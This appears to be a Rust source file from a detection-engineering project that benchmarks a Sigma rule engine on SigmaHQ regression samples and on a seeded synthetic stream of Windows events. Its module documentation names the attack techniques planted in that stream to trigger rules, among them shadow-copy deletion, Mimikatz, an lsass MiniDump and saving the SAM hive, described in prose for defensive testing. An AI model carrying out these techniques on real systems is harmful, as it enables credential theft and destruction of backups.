//! `vigie bench sigma`: Sigma evaluation throughput on one thread, start-up time, memory and
//! recall, on the same documents the rsigma harness (`bench/rsigma/`) reads, so that
//! `bench/sigma-vs-rsigma.sh` can give the ratio of the two engines.
//!
//! What is timed: loading the rule directories (reading, parsing, compiling: the start-up), then
//! `DetectionSet::matching_document` on every document of the stream, one after the other on
//! the calling thread. What is not: making the documents. They are prepared in chunks of
//! `CHUNK` before the clock runs for the chunk, so that memory stays bounded whatever the
//! stream's length, and the engine never sees the same few documents hot in cache.
//!
//! Datasets:
//!
//! - `regression`: every event of SigmaHQ's regression samples (the EVTX files through the
//!   hunt's reader, and their evtx_dump JSON twins), as `vigie hunt` sees them, cycled to the
//!   length asked. Each sample names the rule it must fire (`info.yml`); the first cycle gives
//!   the recall: how many samples fire their own rule.
//! - `synthetic`: a deterministic mixed stream of Windows events in evtx_dump's layout
//!   (`{"Event": {"System": {…}, "EventData": {…}}}`, the same System block as real records)
//!   from a seeded xorshift generator. Per 1,000 events:
//!
//!   | share | event | content |
//!   |---|---|---|
//!   | 330 | Sysmon 1, process creation | 18 ordinary programs (browsers, Office, Teams, VS Code, git, svchost, conhost, taskhostw, Python, Java…) with their natural parent, user, hashes and a 50–200 character command line |
//!   | 130 | Sysmon 3, network connection | browsers, Teams, OneDrive, VS Code, git, Python, svchost and lsass to the 12 services each uses (the domain controller for lsass) |
//!   | 130 | Sysmon 11, file created | downloads, Office temporary files, Outlook attachments, caches, logs |
//!   | 100 | Sysmon 13, registry value set | Explorer's recent documents, Office, OneDrive, BAM |
//!   | 100 | Security 4624, logon | types 2, 3, 5, 10, 11 with realistic processes and packages |
//!   | 30 | Security 4625, failed logon | network logons with the usual status codes |
//!   | 80 | Security 4688, process creation | the Sysmon 1 programs, as Security logs them |
//!   | 70 | PowerShell 4104, script block | administration one-liners and PowerShell's own prompt blocks |
//!   | 20 | System 7045, service installed | updaters and agents |
//!   | 10 | attack | built to hit public rules: vssadmin and wmic shadow-copy deletion, bcdedit recovery off, certutil download, Mimikatz, comsvcs MiniDump, `reg save` of SAM, encoded PowerShell, Invoke-Mimikatz script block, named-pipe service, an lsass dump file, a Run key |
//!
//!   The ordinary events are made to look like a normal office estate; that some of them still
//!   meet a broad public rule is part of what the benchmark measures.
//!
//! `--write-events FILE` writes the exact stream, one JSON document per line; for `regression`
//! it also writes `FILE.expected.tsv` (first-cycle event index, expected rule id, sample file)
//! so the rsigma harness computes the same recall.

use std::collections::HashMap;
use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use clap::ValueEnum;
use serde_json::{Value, json};
use vigie_core::rule::detect::DetectionSet;
use vigie_core::rule::sigma::load_rules;

use crate::hunt::{FileKind, discover_files, read_events};
use crate::rule::read_rule_dir;

/// Documents prepared, then evaluated, at a time.
const CHUNK: usize = 10_000;

/// The synthetic stream's seed: the stream is the same on every run and every machine.
pub const SYNTHETIC_SEED: u64 = 0x5167_6d61_2026_0005;

/// Arguments of `vigie bench sigma`.
#[derive(Debug, Clone, clap::Args)]
pub struct SigmaBenchArgs {
    /// Directory of Sigma rules, read recursively; may be given several times.
    #[arg(long = "rules", value_name = "DIR", required = true)]
    pub rules: Vec<PathBuf>,
    /// The event stream.
    #[arg(long, value_enum)]
    pub dataset: SigmaDataset,
    /// Length of the stream, in events.
    #[arg(long, default_value_t = 1_000_000)]
    pub events: u64,
    /// Write the stream, one JSON document per line (and, for `regression`, the samples'
    /// expected rules to FILE.expected.tsv), for the rsigma harness.
    #[arg(long, value_name = "FILE.jsonl")]
    pub write_events: Option<PathBuf>,
    /// SigmaHQ's `regression_data` folder.
    #[arg(
        long,
        value_name = "DIR",
        default_value = "../shared/data/sigmahq/regression_data"
    )]
    pub regression_data: PathBuf,
}

/// `--dataset`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum SigmaDataset {
    /// SigmaHQ's regression samples, cycled.
    Regression,
    /// The seeded mixed stream of Windows events described in the module documentation.
    Synthetic,
}

/// One regression sample: an EVTX file or its JSON twin, and the rule it must fire.
struct Sample {
    file: PathBuf,
    kind: FileKind,
    rule_id: String,
}

/// The regression events, in file order, each with the index of its sample.
struct RegressionData {
    samples: Vec<Sample>,
    events: Vec<Value>,
    sample_of_event: Vec<usize>,
    files: usize,
}

pub fn run(args: SigmaBenchArgs) -> Result<()> {
    ensure!(args.events > 0, "--events must be positive");
    let (rss_before, _) = super::memory_kib();

    let started = Instant::now();
    let mut files = Vec::new();
    for dir in &args.rules {
        files.extend(read_rule_dir(dir)?);
    }
    let rule_set = load_rules(&files, &HashMap::new());
    let (rejected, correlations) = (rule_set.rejected.len(), rule_set.correlations.len());
    let set = DetectionSet::new(rule_set);
    let startup = started.elapsed();
    let (rss_rules, _) = super::memory_kib();

    let regression = match args.dataset {
        SigmaDataset::Regression => Some(read_regression(&args.regression_data)?),
        SigmaDataset::Synthetic => None,
    };
    let mut writer = match &args.write_events {
        Some(path) => {
            let file =
                File::create(path).with_context(|| format!("cannot write {}", path.display()))?;
            Some(BufWriter::new(file))
        }
        None => None,
    };
    if let (Some(path), Some(data)) = (&args.write_events, &regression) {
        write_expected(&path.with_extension("expected.tsv"), data)?;
    }

    let mut synthetic = SyntheticStream::new(SYNTHETIC_SEED);
    let first_cycle = regression.as_ref().map_or(0, |d| d.events.len());
    let mut first_cycle_matches: Vec<Vec<u32>> = Vec::with_capacity(first_cycle);
    let mut fired = vec![0u64; set.rules().len()];
    let (mut matches, mut done, mut elapsed) = (0u64, 0u64, Duration::ZERO);
    let mut chunk: Vec<Value> = Vec::with_capacity(CHUNK);
    // RSS once the first chunk is ready, before any evaluation: the rules plus the documents.
    let mut rss_documents = 0;
    while done < args.events {
        chunk.clear();
        let size = (args.events - done).min(CHUNK as u64);
        for i in done..done + size {
            let document = match &regression {
                Some(data) => data.events[(i % data.events.len() as u64) as usize].clone(),
                None => synthetic.next_event(),
            };
            if let Some(writer) = writer.as_mut() {
                serde_json::to_writer(&mut *writer, &document)?;
                writer.write_all(b"\n")?;
            }
            chunk.push(document);
        }
        if done == 0 {
            rss_documents = super::memory_kib().0;
        }
        let clock = Instant::now();
        for (offset, document) in chunk.iter().enumerate() {
            let found = set.matching_document(document);
            matches += found.len() as u64;
            for &rule in &found {
                fired[rule as usize] += 1;
            }
            if (done as usize + offset) < first_cycle {
                first_cycle_matches.push(found);
            }
        }
        elapsed += clock.elapsed();
        done += size;
    }
    if let Some(mut writer) = writer {
        writer.flush().context("cannot write the events")?;
    }
    let (_, peak) = super::memory_kib();

    let rate = args.events as f64 / elapsed.as_secs_f64();
    let distinct = fired.iter().filter(|&&n| n > 0).count();
    println!(
        "vigie bench sigma: dataset {}, {} events, one thread",
        match &regression {
            Some(data) => format!(
                "regression ({} events from {} files, cycled)",
                data.events.len(),
                data.files
            ),
            None => "synthetic".to_owned(),
        },
        args.events
    );
    println!(
        "  rules: {} loaded ({correlations} correlations), {rejected} rejected; start-up {:.2} s",
        set.rules().len(),
        startup.as_secs_f64()
    );
    println!(
        "  evaluation: {} events in {:.2} s: {rate:.0} events/s",
        args.events,
        elapsed.as_secs_f64()
    );
    println!("  matches: {matches}, {distinct} distinct rules fired");
    let mut recall_json = Value::Null;
    if let Some(data) = &regression {
        let (evtx, json_twins, missed) = recall(data, &first_cycle_matches, &set);
        let count = |kind| data.samples.iter().filter(|s| s.kind == kind).count();
        let (evtx_total, json_total) = (count(FileKind::Evtx), count(FileKind::Json));
        if first_cycle_matches.len() < data.events.len() {
            println!("  recall: not measured, the stream is shorter than one cycle");
        } else {
            println!(
                "  recall: {evtx}/{evtx_total} EVTX samples fire their own rule, \
                 {json_twins}/{json_total} of their JSON twins"
            );
            for sample in &missed {
                println!("    missed: {sample}");
            }
            recall_json = json!({"evtx": evtx, "evtx_total": evtx_total,
                "json": json_twins, "json_total": json_total, "missed_evtx": missed});
        }
    }
    println!(
        "  memory: RSS {} MiB before loading, {} MiB with the rules loaded, {} MiB with the \
         first {CHUNK} documents prepared, peak {} MiB",
        rss_before / 1024,
        rss_rules / 1024,
        rss_documents / 1024,
        peak / 1024
    );
    let summary = json!({
        "engine": "vigie",
        "dataset": if regression.is_some() { "regression" } else { "synthetic" },
        "events": args.events,
        "rules_loaded": set.rules().len(),
        "rules_rejected": rejected,
        "startup_s": startup.as_secs_f64(),
        "seconds": elapsed.as_secs_f64(),
        "events_per_s": rate,
        "matches": matches,
        "distinct_rules": distinct,
        "rss_rules_mib": rss_rules / 1024,
        "rss_documents_mib": rss_documents / 1024,
        "peak_rss_mib": peak / 1024,
        "recall": recall_json,
    });
    println!("summary: {summary}");
    Ok(())
}

/// Samples hit, on EVTX and on their JSON twins: a sample is hit when one of its events fired
/// the sample's rule.
fn recall(
    data: &RegressionData,
    matches: &[Vec<u32>],
    set: &DetectionSet,
) -> (usize, usize, Vec<String>) {
    let mut hit = vec![false; data.samples.len()];
    for (event, found) in matches.iter().enumerate() {
        let sample = data.sample_of_event[event];
        let expected = data.samples[sample].rule_id.as_str();
        if found
            .iter()
            .any(|&rule| set.rules()[rule as usize].rule.id.as_deref() == Some(expected))
        {
            hit[sample] = true;
        }
    }
    let count = |kind| {
        data.samples
            .iter()
            .zip(&hit)
            .filter(|(s, hit)| s.kind == kind && **hit)
            .count()
    };
    let missed = data
        .samples
        .iter()
        .zip(&hit)
        .filter(|(s, hit)| s.kind == FileKind::Evtx && !**hit)
        .map(|(s, _)| format!("{} ({})", s.file.display(), s.rule_id))
        .collect();
    (count(FileKind::Evtx), count(FileKind::Json), missed)
}

/// Every EVTX and JSON file below `dir`, read as `vigie hunt` reads them.
fn read_regression(dir: &Path) -> Result<RegressionData> {
    let files = discover_files(&[dir.to_path_buf()])?;
    let mut data = RegressionData {
        samples: Vec::new(),
        events: Vec::new(),
        sample_of_event: Vec::new(),
        files: files.len(),
    };
    for (file, kind) in files {
        let sample = data.samples.len();
        let mut events = Vec::new();
        let problems = read_events(&file, kind, &mut |_, event| events.push(event.clone()))?;
        ensure!(
            problems.failed == 0,
            "{}: {} unreadable records: {}",
            file.display(),
            problems.failed,
            problems.reasons.join("; ")
        );
        data.sample_of_event.extend(events.iter().map(|_| sample));
        data.events.extend(events);
        data.samples.push(Sample {
            rule_id: expected_rule_id(&file),
            file,
            kind,
        });
    }
    ensure!(
        !data.events.is_empty(),
        "no events in {} (expected SigmaHQ's regression_data)",
        dir.display()
    );
    Ok(data)
}

/// The rule a regression sample tests: `rule_metadata[0].id` of its `info.yml`, else the
/// sample's file stem (SigmaHQ names samples after the rule id).
fn expected_rule_id(sample: &Path) -> String {
    if let Ok(yaml) = std::fs::read_to_string(sample.with_file_name("info.yml")) {
        let mut lines = yaml
            .lines()
            .skip_while(|l| !l.starts_with("rule_metadata:"));
        if let Some(id) = lines.nth(1).and_then(|l| l.trim().strip_prefix("- id:")) {
            return id.trim().to_owned();
        }
    }
    let stem = sample.file_stem().unwrap_or_default();
    stem.to_string_lossy().into_owned()
}

/// `index<TAB>rule id<TAB>sample file` for each event of the first cycle.
fn write_expected(path: &Path, data: &RegressionData) -> Result<()> {
    let file = File::create(path).with_context(|| format!("cannot write {}", path.display()))?;
    let mut out = BufWriter::new(file);
    for (index, &sample) in data.sample_of_event.iter().enumerate() {
        let sample = &data.samples[sample];
        writeln!(
            out,
            "{index}\t{}\t{}",
            sample.rule_id,
            sample.file.display()
        )?;
    }
    out.flush()
        .with_context(|| format!("cannot write {}", path.display()))
}

/// xorshift64*: small, fast and the same everywhere; statistical quality is beside the point.
struct XorShift(u64);

impl XorShift {
    fn new(seed: u64) -> XorShift {
        // A zero state would stay zero.
        XorShift(seed.max(1))
    }

    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn between(&mut self, low: u64, high: u64) -> u64 {
        low + self.next() % (high - low + 1)
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    fn hex(&mut self, digits: usize) -> String {
        let mut out = String::with_capacity(digits);
        while out.len() < digits {
            let word = format!("{:016X}", self.next());
            out.push_str(&word[..(digits - out.len()).min(16)]);
        }
        out
    }

    fn guid(&mut self) -> String {
        format!(
            "{{{}-{}-{}-{}-{}}}",
            self.hex(8),
            self.hex(4),
            self.hex(4),
            self.hex(4),
            self.hex(12)
        )
    }
}

const USERS: &[&str] = &[
    "amartin",
    "bdurand",
    "cleroy",
    "dmoreau",
    "esimon",
    "flaurent",
    "glefebvre",
    "hmichel",
    "igarcia",
    "jdavid",
    "kbertrand",
    "lroux",
    "mvincent",
    "nfournier",
    "omorel",
    "pgirard",
    "qandre",
    "rmercier",
    "sdupont",
    "tlambert",
];

const HOST_PREFIXES: &[&str] = &["WS-FIN", "WS-RH", "WS-DEV", "WS-COM", "SRV-APP", "SRV-FILE"];

/// A machine of the estate: its name and its two usual users.
struct Host {
    name: String,
    users: [&'static str; 2],
}

/// A process about to be logged: what Sysmon 1 and Security 4688 say of it.
struct Process {
    image: String,
    original: &'static str,
    description: &'static str,
    product: &'static str,
    company: &'static str,
    command_line: String,
    parent_image: String,
    parent_command_line: String,
    user: String,
    integrity: &'static str,
}

const SYSMON: (&str, &str) = (
    "Microsoft-Windows-Sysmon",
    "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
);
const SYSMON_CHANNEL: &str = "Microsoft-Windows-Sysmon/Operational";
const SECURITY: (&str, &str) = (
    "Microsoft-Windows-Security-Auditing",
    "54849625-5478-4994-A5BA-3E3B0328C30D",
);
const POWERSHELL: (&str, &str) = (
    "Microsoft-Windows-PowerShell",
    "A0C1853B-5C40-4B15-8766-3CF1C58F985A",
);
const SERVICE_CONTROL_MANAGER: (&str, &str) = (
    "Service Control Manager",
    "{555908d1-a6d7-4695-8e1e-26931d2012f4}",
);

const SERVICES_EXE: &str = r"C:\Windows\System32\services.exe";
const EXPLORER_EXE: &str = r"C:\Windows\explorer.exe";
const CMD_EXE: &str = r"C:\Windows\System32\cmd.exe";
const SVCHOST_EXE: &str = r"C:\Windows\System32\svchost.exe";

/// The deterministic mixed stream of the `synthetic` dataset; see the module documentation.
pub struct SyntheticStream {
    rng: XorShift,
    hosts: Vec<Host>,
    /// Milliseconds since 2026-03-02T00:00:00Z.
    clock_ms: u64,
    record_id: u64,
    attacks: usize,
}

impl SyntheticStream {
    pub fn new(seed: u64) -> SyntheticStream {
        let mut rng = XorShift::new(seed);
        let hosts = (0..48)
            .map(|n| Host {
                name: format!(
                    "{}-{:04}.corp.example.net",
                    HOST_PREFIXES[n % HOST_PREFIXES.len()],
                    100 + rng.below(900)
                ),
                users: [*rng.pick(USERS), *rng.pick(USERS)],
            })
            .collect();
        SyntheticStream {
            rng,
            hosts,
            clock_ms: 8 * 3_600_000,
            record_id: 1_000_000,
            attacks: 0,
        }
    }

    pub fn next_event(&mut self) -> Value {
        self.clock_ms += self.rng.between(1, 20);
        let host = self.rng.below(self.hosts.len());
        let user = self.hosts[host].users[self.rng.below(2)];
        match self.rng.below(1000) {
            0..10 => self.attack(host, user),
            10..340 => {
                let process = self.ordinary_process(user);
                self.process_creation(host, &process)
            }
            340..470 => self.network_connection(host, user),
            470..600 => self.file_created(host, user),
            600..700 => self.registry_set(host, user),
            700..800 => self.logon(host, user),
            800..830 => self.failed_logon(host),
            830..910 => {
                let process = self.ordinary_process(user);
                self.security_process_creation(host, &process)
            }
            910..980 => self.script_block(host, user, None),
            _ => self.service_installed(host, None),
        }
    }

    fn time(&self) -> (String, String) {
        let day = 2 + (self.clock_ms / 86_400_000) % 27;
        let ms = self.clock_ms % 86_400_000;
        let (h, m, s, milli) = (ms / 3_600_000, ms / 60_000 % 60, ms / 1000 % 60, ms % 1000);
        (
            format!(
                "2026-03-{day:02}T{h:02}:{m:02}:{s:02}.{milli:03}{:03}Z",
                ms % 997
            ),
            format!("2026-03-{day:02} {h:02}:{m:02}:{s:02}.{milli:03}"),
        )
    }

    fn windows_event(
        &mut self,
        provider: (&str, &str),
        channel: &str,
        event_id: u32,
        host: usize,
        data: Value,
    ) -> Value {
        self.record_id += 1;
        let (system_time, _) = self.time();
        let (pid, tid) = (self.rng.between(600, 9000), self.rng.between(600, 12000));
        json!({"Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": provider.0, "Guid": provider.1}},
                "EventID": event_id,
                "Version": if provider.0 == SYSMON.0 { 5 } else { 2 },
                "Level": 4,
                "Task": event_id % 100,
                "Opcode": 0,
                "Keywords": "0x8000000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": system_time}},
                "EventRecordID": self.record_id,
                "Correlation": null,
                "Execution": {"#attributes": {"ProcessID": pid, "ThreadID": tid}},
                "Channel": channel,
                "Computer": self.hosts[host].name,
                "Security": {"#attributes": {"UserID": "S-1-5-18"}}
            },
            "EventData": data
        }})
    }

    fn hashes(&mut self) -> String {
        format!(
            "SHA1={},MD5={},SHA256={},IMPHASH={}",
            self.rng.hex(40),
            self.rng.hex(32),
            self.rng.hex(64),
            self.rng.hex(32)
        )
    }

    fn domain_user(user: &str) -> String {
        format!(r"CORP\{user}")
    }

    /// One of the ordinary programs of an office estate, with its natural parent.
    fn ordinary_process(&mut self, user: &str) -> Process {
        let n = self.rng.between(1000, 99999);
        let long = self.rng.next();
        let doc = *self
            .rng
            .pick(&["Rapport_mensuel", "Budget_2026", "Compte_rendu", "Devis"]);
        let as_user = Self::domain_user(user);
        let system = r"NT AUTHORITY\SYSTEM".to_owned();
        let chrome = r"C:\Program Files\Google\Chrome\Application\chrome.exe";
        let edge = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe";
        let office = r"C:\Program Files\Microsoft Office\root\Office16";
        let teams = format!(r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe");
        let code = format!(r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe");
        let p =
            |image: &str, original, description, product, company, command_line: String| Process {
                image: image.to_owned(),
                original,
                description,
                product,
                company,
                command_line,
                parent_image: String::new(),
                parent_command_line: String::new(),
                user: as_user.clone(),
                integrity: "Medium",
            };
        let (mut process, parent_image, parent_command_line) = match self.rng.below(18) {
            0 => (
                p(
                    chrome,
                    "chrome.exe",
                    "Google Chrome",
                    "Google Chrome",
                    "Google LLC",
                    format!(
                        "\"{chrome}\" --type=renderer --lang=fr --num-raster-threads=4 \
                         --renderer-client-id={} --launch-time-ticks={long} /prefetch:1",
                        n % 400
                    ),
                ),
                chrome.to_owned(),
                format!("\"{chrome}\" --profile-directory=Default"),
            ),
            1 => (
                p(
                    edge,
                    "msedge.exe",
                    "Microsoft Edge",
                    "Microsoft Edge",
                    "Microsoft Corporation",
                    format!(
                        "\"{edge}\" --type=utility --utility-sub-type=network.mojom.NetworkService \
                         --lang=fr --service-sandbox-type=none --field-trial-handle={n},i,{long}"
                    ),
                ),
                edge.to_owned(),
                format!("\"{edge}\" --no-startup-window --win-session-start"),
            ),
            2 => {
                let (group, service) = *self.rng.pick(&[
                    ("netsvcs", "Schedule"),
                    ("netsvcs", "BITS"),
                    ("netsvcs", "wuauserv"),
                    ("LocalServiceNetworkRestricted", "Dhcp"),
                    ("wsappx", "AppXSvc"),
                ]);
                let mut process = p(
                    SVCHOST_EXE,
                    "svchost.exe",
                    "Host Process for Windows Services",
                    "Microsoft® Windows® Operating System",
                    "Microsoft Corporation",
                    format!(r"C:\Windows\system32\svchost.exe -k {group} -p -s {service}"),
                );
                process.user = system.clone();
                process.integrity = "System";
                (process, SERVICES_EXE.to_owned(), SERVICES_EXE.to_owned())
            }
            3 => (
                p(
                    r"C:\Windows\System32\conhost.exe",
                    "CONHOST.EXE",
                    "Console Window Host",
                    "Microsoft® Windows® Operating System",
                    "Microsoft Corporation",
                    r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1".to_owned(),
                ),
                CMD_EXE.to_owned(),
                format!(r#""C:\Windows\system32\cmd.exe" /c C:\Users\{user}\bin\sync_{n}.bat"#),
            ),
            4 | 5 => {
                let (exe, original, description, extension) = if self.rng.below(2) == 0 {
                    ("WINWORD.EXE", "WinWord.exe", "Microsoft Word", "docx")
                } else {
                    ("EXCEL.EXE", "Excel.exe", "Microsoft Excel", "xlsx")
                };
                (
                    p(
                        &format!(r"{office}\{exe}"),
                        original,
                        description,
                        "Microsoft Office",
                        "Microsoft Corporation",
                        format!(
                            r#""{office}\{exe}" /n "C:\Users\{user}\Documents\Dossiers\{doc}_{n}.{extension}""#
                        ),
                    ),
                    EXPLORER_EXE.to_owned(),
                    r"C:\Windows\Explorer.EXE".to_owned(),
                )
            }
            6 => (
                p(
                    &format!(r"{office}\OUTLOOK.EXE"),
                    "Outlook.exe",
                    "Microsoft Outlook",
                    "Microsoft Office",
                    "Microsoft Corporation",
                    format!(r#""{office}\OUTLOOK.EXE" /recycle"#),
                ),
                EXPLORER_EXE.to_owned(),
                r"C:\Windows\Explorer.EXE".to_owned(),
            ),
            7 => (
                p(
                    &teams,
                    "Teams.exe",
                    "Microsoft Teams",
                    "Microsoft Teams",
                    "Microsoft Corporation",
                    format!(
                        "\"{teams}\" --type=gpu-process --field-trial-handle={n},{long} \
                         --disable-features=SpareRendererForSitePerProcess /prefetch:2"
                    ),
                ),
                teams.clone(),
                format!("\"{teams}\" --system-initiated"),
            ),
            8 => {
                let branch =
                    *self
                        .rng
                        .pick(&["main", "develop", "feature/facturation", "hotfix/42"]);
                (
                    p(
                        r"C:\Program Files\Git\cmd\git.exe",
                        "git.exe",
                        "Git for Windows",
                        "Git",
                        "The Git Development Community",
                        format!(
                            r#""C:\Program Files\Git\cmd\git.exe" -c core.quotepath=false fetch --prune origin {branch}"#
                        ),
                    ),
                    code.clone(),
                    format!("\"{code}\" --type=utility --utility-sub-type=node.mojom.NodeService"),
                )
            }
            9 => (
                p(
                    &code,
                    "Code.exe",
                    "Visual Studio Code",
                    "Visual Studio Code",
                    "Microsoft Corporation",
                    format!(
                        "\"{code}\" --type=utility --utility-sub-type=node.mojom.NodeService \
                         --lang=fr --service-sandbox-type=none --field-trial-handle={n},{long}"
                    ),
                ),
                code.clone(),
                format!("\"{code}\""),
            ),
            10 => (
                p(
                    r"C:\Windows\System32\backgroundTaskHost.exe",
                    "backgroundTaskHost.exe",
                    "Background Task Host",
                    "Microsoft® Windows® Operating System",
                    "Microsoft Corporation",
                    "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" \
                     -ServerName:BackgroundTaskHost.WebAccountProvider"
                        .to_owned(),
                ),
                SVCHOST_EXE.to_owned(),
                r"C:\Windows\system32\svchost.exe -k DcomLaunch -p".to_owned(),
            ),
            11 => (
                p(
                    r"C:\Windows\System32\taskhostw.exe",
                    "taskhostw.exe",
                    "Host Process for Windows Tasks",
                    "Microsoft® Windows® Operating System",
                    "Microsoft Corporation",
                    format!("taskhostw.exe {}", self.rng.guid()),
                ),
                SVCHOST_EXE.to_owned(),
                r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule".to_owned(),
            ),
            12 => (
                p(
                    r"C:\Program Files\Python312\python.exe",
                    "python.exe",
                    "Python",
                    "Python",
                    "Python Software Foundation",
                    format!(
                        r#""C:\Program Files\Python312\python.exe" C:\Users\{user}\projets\etl\extract_{n}.py --date 2026-03-02 --output D:\exports\ventes"#
                    ),
                ),
                CMD_EXE.to_owned(),
                r#""C:\Windows\system32\cmd.exe""#.to_owned(),
            ),
            13 => {
                let mut process = p(
                    r"C:\Program Files\Eclipse Adoptium\jdk-21.0.2.13-hotspot\bin\java.exe",
                    "java.exe",
                    "OpenJDK Platform binary",
                    "OpenJDK Platform 21.0.2",
                    "Eclipse Adoptium",
                    r#""C:\Program Files\Eclipse Adoptium\jdk-21.0.2.13-hotspot\bin\java.exe" -Xmx2g -jar C:\Apps\Reporting\reporting-server-4.2.1.jar --spring.profiles.active=prod"#
                        .to_owned(),
                );
                process.user = r"CORP\svc-reporting".to_owned();
                (process, SERVICES_EXE.to_owned(), SERVICES_EXE.to_owned())
            }
            14 => {
                let mut process = p(
                    r"C:\Windows\System32\SearchProtocolHost.exe",
                    "SearchProtocolHost.exe",
                    "Microsoft Windows Search Protocol Host",
                    "Windows® Search",
                    "Microsoft Corporation",
                    format!(
                        "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" \
                         Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646"
                    ),
                );
                process.user = system.clone();
                process.integrity = "System";
                (
                    process,
                    r"C:\Windows\System32\SearchIndexer.exe".to_owned(),
                    r"C:\Windows\system32\SearchIndexer.exe /Embedding".to_owned(),
                )
            }
            15 => {
                let onedrive =
                    format!(r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe");
                (
                    p(
                        &onedrive,
                        "OneDrive.exe",
                        "Microsoft OneDrive",
                        "Microsoft OneDrive",
                        "Microsoft Corporation",
                        format!("\"{onedrive}\" /background"),
                    ),
                    EXPLORER_EXE.to_owned(),
                    r"C:\Windows\Explorer.EXE".to_owned(),
                )
            }
            16 => (
                p(
                    r"C:\Windows\System32\notepad.exe",
                    "NOTEPAD.EXE",
                    "Notepad",
                    "Microsoft® Windows® Operating System",
                    "Microsoft Corporation",
                    format!(
                        r#""C:\Windows\system32\NOTEPAD.EXE" C:\Users\{user}\Desktop\notes_reunion_{n}.txt"#
                    ),
                ),
                EXPLORER_EXE.to_owned(),
                r"C:\Windows\Explorer.EXE".to_owned(),
            ),
            _ => (
                p(
                    r"C:\Windows\System32\dllhost.exe",
                    "dllhost.exe",
                    "COM Surrogate",
                    "Microsoft® Windows® Operating System",
                    "Microsoft Corporation",
                    format!(
                        r"C:\Windows\system32\DllHost.exe /Processid:{}",
                        self.rng.guid()
                    ),
                ),
                SVCHOST_EXE.to_owned(),
                r"C:\Windows\system32\svchost.exe -k DcomLaunch -p".to_owned(),
            ),
        };
        process.parent_image = parent_image;
        process.parent_command_line = parent_command_line;
        process
    }

    fn process_creation(&mut self, host: usize, process: &Process) -> Value {
        let (_, utc) = self.time();
        let current_directory = match process.user.strip_prefix(r"CORP\") {
            Some(user) if !user.starts_with("svc") => format!(r"C:\Users\{user}\"),
            _ => r"C:\Windows\system32\".to_owned(),
        };
        let data = json!({
            "RuleName": "-",
            "UtcTime": utc,
            "ProcessGuid": self.rng.guid(),
            "ProcessId": self.rng.between(500, 30000),
            "Image": process.image,
            "FileVersion": format!("{}.{}.{}.{}", self.rng.between(1, 30), self.rng.below(10),
                self.rng.between(1000, 26000), self.rng.below(5000)),
            "Description": process.description,
            "Product": process.product,
            "Company": process.company,
            "OriginalFileName": process.original,
            "CommandLine": process.command_line,
            "CurrentDirectory": current_directory,
            "User": process.user,
            "LogonGuid": self.rng.guid(),
            "LogonId": format!("0x{:x}", self.rng.between(0x3e7, 0xffffff)),
            "TerminalSessionId": if process.integrity == "System" { 0 } else { 1 },
            "IntegrityLevel": process.integrity,
            "Hashes": self.hashes(),
            "ParentProcessGuid": self.rng.guid(),
            "ParentProcessId": self.rng.between(500, 30000),
            "ParentImage": process.parent_image,
            "ParentCommandLine": process.parent_command_line,
            "ParentUser": process.user,
        });
        self.windows_event(SYSMON, SYSMON_CHANNEL, 1, host, data)
    }

    fn security_process_creation(&mut self, host: usize, process: &Process) -> Value {
        let user = process
            .user
            .rsplit('\\')
            .next()
            .unwrap_or_default()
            .to_owned();
        let data = json!({
            "SubjectUserSid": self.user_sid(host),
            "SubjectUserName": user,
            "SubjectDomainName": "CORP",
            "SubjectLogonId": format!("0x{:x}", self.rng.between(0x3e7, 0xffffff)),
            "NewProcessId": format!("0x{:x}", self.rng.between(500, 30000)),
            "NewProcessName": process.image,
            "TokenElevationType": "%%1938",
            "ProcessId": format!("0x{:x}", self.rng.between(500, 30000)),
            "CommandLine": process.command_line,
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": "-",
            "TargetDomainName": "-",
            "TargetLogonId": "0x0",
            "ParentProcessName": process.parent_image,
            "MandatoryLabel": if process.integrity == "System" { "S-1-16-16384" } else { "S-1-16-8192" },
        });
        self.windows_event(SECURITY, "Security", 4688, host, data)
    }

    fn user_sid(&mut self, host: usize) -> String {
        format!(
            "S-1-5-21-3623811015-3361044348-30300820-{}",
            1100 + host * 7 + self.rng.below(7)
        )
    }

    fn network_connection(&mut self, host: usize, user: &str) -> Value {
        let (_, utc) = self.time();
        // Each service with the program that usually talks to it.
        let (destination, ip, port, program) = *self.rng.pick(&[
            ("outlook.office365.com", "52.97.", 443, "edge"),
            ("teams.microsoft.com", "52.113.", 443, "teams"),
            ("www.google.com", "142.250.", 443, "chrome"),
            ("clients2.google.com", "142.250.", 443, "chrome"),
            ("fr.wikipedia.org", "185.15.", 443, "edge"),
            ("github.com", "140.82.", 443, "git"),
            ("login.microsoftonline.com", "20.190.", 443, "onedrive"),
            ("onedrive.live.com", "13.107.", 443, "onedrive"),
            ("marketplace.visualstudio.com", "13.107.", 443, "code"),
            ("pypi.org", "151.101.", 443, "python"),
            ("ctldl.windowsupdate.com", "93.184.", 80, "svchost"),
            ("dc-01.corp.example.net", "10.10.", 389, "lsass"),
        ]);
        let (image, as_user) = match program {
            "edge" => (
                r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe".to_owned(),
                Self::domain_user(user),
            ),
            "teams" => (
                format!(r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe"),
